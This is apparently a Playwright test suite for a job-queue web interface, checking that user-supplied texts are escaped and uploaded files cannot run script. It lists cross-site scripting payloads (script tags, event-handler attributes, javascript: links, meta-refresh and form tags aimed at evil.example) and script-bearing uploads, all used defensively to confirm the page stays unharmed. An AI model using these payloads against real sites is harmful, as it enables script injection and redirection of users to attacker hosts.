"""Texts of jobs, workers and reviews are escaped, and uploaded files cannot run script on the page."""

from __future__ import annotations

import io
import json
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, expect

from mr_celery.sandbox import Sandbox
from support.browser import Visit
from support.sandbox_example import upload

ACTING = "main script, main [onerror], main [onload], main [ontoggle], main meta, base, iframe"
LEADING = "a[href^='javascript:'], a[href^='data:'], form[action*='evil']"
ATTACKS = (
    "<script>window.owned = 1</script>",
    "<img src=x onerror=window.owned=1>",
    '"><svg onload=window.owned=1>',
    "'><iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "</textarea></title></style><script>window.owned=1</script>",
    "[click](javascript:window.owned=1) **b** ![x](javascript:window.owned=1)",
    "[click](data:text/html,<script>opener.owned=1</script>) `c` <a href=javascript:window.owned=1>x</a>",
    "# Title\n\n<details open ontoggle=window.owned=1>\n\n[a]: javascript:window.owned=1\n[a]",
    '![x](/s/0000000000000000000000000000000000000000" onerror="window.owned=1)',
    "{{ 7 * 191 }}{% raw %}${window.owned=1}",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example id=jobs><input name=attributes>",
)


def fill(sandbox: Sandbox, attack: str) -> int:
    """Create a running job with the attack in every field that jobs or workers can set. Returns its id."""
    store = sandbox.store
    requires = {"capability": attack, "capabilities": [attack], "tags": [attack]}
    fields = {"priority": attack, attack: attack, "input": {attack: [attack]}, **requires}
    job_id = store.dispatch(attack, attack, fields)["id"]
    store.claim(job_id, attack)
    artifact = {"content_type": "image/png", "filename": attack, "job_id": job_id, "expires_at": None}
    slug = store.add_artifact(io.BytesIO(b"x"), artifact)["slug"]
    store.add_artifact(io.BytesIO(attack.encode()), {**artifact, "content_type": "text/plain"})
    store.add_artifact(io.BytesIO(b"x"), {**artifact, "content_type": attack, "expires_at": attack})
    review = dict.fromkeys(("type", "title", "content", "preview", "target", "created_by"), attack)
    for preview in (attack, slug, f"https://x/{attack}"):
        store.add_review({**review, "preview": preview, "job_id": job_id})
    store.decide(store.add_review({**review, "job_id": job_id})["id"], "rejected")
    store.report(dict.fromkeys(("instance", "status", "details", "tags", "provider", "worker_type"), attack))
    store.directory.register(f"{attack}.", attack, [{"name": attack, "risk_tier": "approve"}])
    store.dispatch(attack, f"{attack}.", {"capability": attack})
    return int(job_id)


def assert_unharmed(visit: Visit) -> None:
    assert visit.page.evaluate("window.owned") is None
    assert visit.page.locator(f"{ACTING}, {LEADING}").count() == 0
    assert "1337" not in visit.page.inner_text("main")
    assert visit.elsewhere == []
    assert [each for each in visit.trouble if "Content Security Policy" in each] == [], (
        "the policy had to block something"
    )


def test_texts_are_escaped_in_lists(browser: Browser, sandbox: Sandbox) -> None:
    jobs = [fill(sandbox, attack) for attack in ATTACKS]
    with Visit(browser, sandbox) as visit:
        for path in ("/ui/jobs", "/ui/reviews", "/ui/workers", "/ui/faults"):
            visit.go(path)
            assert_unharmed(visit)
        for job_id in jobs:
            visit.go(f"/ui/jobs?copy={job_id}")
            assert_unharmed(visit)
        for attack in ATTACKS:
            visit.go(f"/ui/jobs?{urlencode({'q': attack, 'worker': attack, 'status': attack, 'before': attack})}")
            assert_unharmed(visit)


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_texts_are_escaped_on_the_page_of_a_job(browser: Browser, sandbox: Sandbox, attack: str) -> None:
    job_id = fill(sandbox, attack)
    with Visit(browser, sandbox) as visit:
        state = visit.go(f"/ui/jobs/{job_id}").locator("h1 .state")
        for result in (attack, json.dumps({attack: [attack]}), f"Traceback (most recent call last):\n{attack}"):
            sandbox.store.close_job(job_id, result, "done")
            expect(state).to_have_text("done")  # patched into the page
            assert_unharmed(visit)
            visit.go(f"/ui/jobs/{job_id}")
            assert_unharmed(visit)
            sandbox.store.requeue(job_id)
            sandbox.store.claim(job_id, attack)
            expect(state).to_have_text("running")


UPLOADS = (
    (
        "text/html",
        b"<script>parent.owned=1; top.owned=1; opener.owned=1; fetch('/ui/abort-all', {method: 'POST'})</script>",
    ),
    (
        "image/svg+xml",
        b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>top.owned=1</script></svg>',
    ),
    ("application/xhtml+xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>top.owned=1</script></html>'),
    ("text/plain", b"<script>top.owned=1</script>"),
    ("image/png", b"<html><script>top.owned=1</script></html>"),
    ("application/pdf", b"<html><script>top.owned=1</script></html>"),
    ("text/javascript", b"window.owned=1"),
)


@pytest.mark.parametrize(("content_type", "data"), UPLOADS, ids=[each[0] for each in UPLOADS])
def test_uploads_run_no_script(browser: Browser, sandbox: Sandbox, content_type: str, data: bytes) -> None:
    sandbox.dispatch("p", worker="w")
    slug = upload(sandbox.store, 1, "f", content_type, data)
    with Visit(browser, sandbox) as visit:
        page = visit.go("/ui/jobs/1")
        expect(page.locator("figure.file")).to_have_count(1)
        assert page.evaluate("window.owned") is None
        answer = page.evaluate(f"fetch('/s/{slug}').then(a => a.headers.get('content-security-policy'))")
        assert answer.startswith("sandbox; default-src 'none'")
        # The policy must block the upload as a script, in case the page has an injection bug.
        page.evaluate(f"document.body.append(Object.assign(document.createElement('script'), {{src: '/s/{slug}'}}))")
        page.evaluate("new Promise(done => setTimeout(done, 200))")
        assert page.evaluate("window.owned") is None
        assert sandbox.store.job(1)["status"] == "pending"


def test_opened_upload_has_no_origin(browser: Browser, sandbox: Sandbox) -> None:
    """A file that the browser shows has an opaque origin, so it cannot run script or use the cookie."""
    sandbox.dispatch("p", worker="w")
    slug = upload(sandbox.store, 1, "f", "text/plain", b"just text")
    with Visit(browser, sandbox) as visit:
        other = visit.window()
        other.goto(f"{sandbox.url}/s/{slug}")
        assert other.evaluate("self.origin") == "null"
